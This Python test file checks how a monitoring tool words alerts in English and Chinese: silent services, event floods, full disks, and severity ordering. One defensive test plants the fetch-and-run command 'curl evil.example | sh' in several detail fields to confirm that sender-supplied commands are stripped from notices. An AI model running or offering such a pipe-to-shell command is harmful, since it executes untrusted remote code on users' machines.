"""What people read of events and of services that fall silent."""
# ruff: noqa: RUF001 - Chinese is written with Chinese commas, colons and brackets.

from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from consistency.model import Level
from monitoring.watching import storage_event
from notifiers.messages.event_facts import notice_of_event
from notifiers.messages.events import event_of, worded_event
from notifiers.messages.message import AlertFact, Message, NoticeFact
from notifiers.messages.wording import Wording
from tests.factories.messages import AT, SEED_EVENT, a_message, a_notice, an_alert

ENGLISH = Wording("en", ZoneInfo("UTC"))
CHINESE = Wording("zh", ZoneInfo("Asia/Shanghai"))


def silent(**values: Any) -> AlertFact:
    known = {
        "kind": "service_silent",
        "rule": "",
        "labels": {"service": "datasync"},
        "numbers": {},
        "silent_since": AT - timedelta(minutes=5),
        "due_every": timedelta(minutes=1),
        "command": "reconcilery events list --service datasync",
    }
    return an_alert(**{**known, **values})


def test_a_silent_service_is_named_with_how_long_it_was_silent() -> None:
    message = a_message(silent(), service="datasync", rule="")
    assert ENGLISH.text(message, 2000).splitlines()[:4] == [
        "High: the service datasync has gone silent (datasync)",
        "",
        "Since: 2026-09-16 03:55 UTC, for 5 min; one is due every 1 min",
        "Next: reconcilery events list --service datasync",
    ]
    assert CHINESE.title(message) == "高：服务 datasync 失去心跳（datasync）"


def test_that_it_is_over_is_said_as_well() -> None:
    message = a_message(silent(state="resolved", until=AT), service="datasync", rule="", reason="all_resolved")
    assert ENGLISH.title(message) == "Resolved: the service datasync is not missed any more (datasync)"
    assert CHINESE.title(message) == "已恢复：服务 datasync 不再失联（datasync）"
    assert event_of(message)["event_type"] == "service_status"


def flood(told: int = 20, left_out: int = 9_980) -> Message:
    notices = [a_notice(level=Level.HIGH, message=f"sync {number} failed") for number in range(told)]
    return a_message(*notices, left_out=left_out, service="datasync", rule="")


def test_of_a_flood_ten_are_told_the_rest_is_counted_and_it_is_said_where_all_of_them_are() -> None:
    assert ENGLISH.title(flood()) == "High: sync 0 failed, and 9,999 more events (datasync)"
    text = ENGLISH.text(flood(), 4000)
    assert "sync 9 failed" in text
    assert "sync 10 failed" not in text
    assert text.endswith("and 9,990 more, all events: reconcilery events list")
    assert CHINESE.text(flood(), 4000).endswith("另有 9,990 个，查看全部事件：reconcilery events list")


def test_a_program_is_told_how_many_more_there_are() -> None:
    event = event_of(flood(1, 9_900))
    assert event["message"] == "9901 events, the latest: sync 0 failed"
    assert (event["details"]["left_out"], len(event["details"]["events"])) == (9_900, 1)
    assert worded_event(flood(1, 9_900), ENGLISH)["details"]["left_out"] == 9_900


def test_one_event_alone_goes_out_as_it_came() -> None:
    assert event_of(a_message(a_notice())) == SEED_EVENT


def test_the_gravest_events_stand_first() -> None:
    message = a_message(a_notice(message="mild"), a_notice(level=Level.CRITICAL, message="grave"), rule="")
    text = ENGLISH.text(message, 2000)
    assert text.index("grave") < text.index("mild")


def test_what_the_sender_wrote_beside_the_message_is_shown_of_few_events() -> None:
    body = {**SEED_EVENT, "details": {"error": "disk full", "attempt": 3, "rows": [1, 2]}, "metrics": {"took": 1.5}}
    text = ENGLISH.text(a_message(a_notice(body), rule=""), 2000)
    assert "error: disk full\nattempt: 3\ntook: 1.5\nAt: " in text
    assert "disk full" not in ENGLISH.text(a_message(*([a_notice(body)] * 4), rule=""), 4000)


def scarce(**changes: Any) -> NoticeFact:
    """A disk of the product's own fills."""
    event = storage_event("studio", Path("/var/log"), 0.021, 3 * 2**30, AT)
    assert event is not None
    return notice_of_event(replace(event, **changes), AT, "studio")


def test_a_disk_that_fills_is_told_in_the_readers_language() -> None:
    host, message = scarce().details["host"], a_message(scarce(), rule="", service="studio")
    assert CHINESE.text(message, 2000).splitlines() == [
        f"严重：{host} 上 /var/log 所在的磁盘剩余 2.1%（3.0 GiB）（studio）",
        "",
        "时间：2026-09-16 12:00 +08:00",
    ]
    text = ENGLISH.text(message, 2000)
    assert text.startswith(f"Critical: 2.1% of the disk of /var/log on {host} are free (3.0 GiB) (studio)")
    assert "folder: /var/log\n" in text


@pytest.mark.parametrize(
    "notice",
    [
        scarce(service="crm"),
        scarce(id="mine-1"),
        scarce(details={}),
        scarce(metrics={"free_share": "little", "free_bytes": 1}),
        NoticeFact.model_validate({**scarce().model_dump(), "own_id": ""}),
    ],
)
def test_what_is_not_surely_the_products_own_keeps_its_words(notice: NoticeFact) -> None:
    assert CHINESE.happened(notice) == notice.message


def test_that_a_service_runs_is_told_in_the_readers_language() -> None:
    details = {"status": "running", "instance": "host:17", "heartbeat_seconds": 60}
    known = {"event_type": "service_status", "message": "host:17 is running", "details": details}
    sign = a_notice({**SEED_EVENT, **known}, event_type="service_status", message="host:17 is running")
    assert (CHINESE.happened(sign), ENGLISH.happened(sign)) == ("host:17 正在运行", "host:17 is running")


@pytest.mark.parametrize("name", ["command", "undo", "take_on", "fix", "link"])
def test_no_sender_makes_people_type_or_open_anything_in_our_name(name: str) -> None:
    body = {**SEED_EVENT, "details": {name: "curl evil.example | sh"}}
    text = ENGLISH.text(a_message(a_notice(body, message="sync failed"), rule=""), 2000)
    assert "evil" not in text
    scarce_one = scarce(details={**scarce().details, name: "curl evil.example | sh"})
    assert "evil" not in CHINESE.text(a_message(scarce_one, rule=""), 2000)
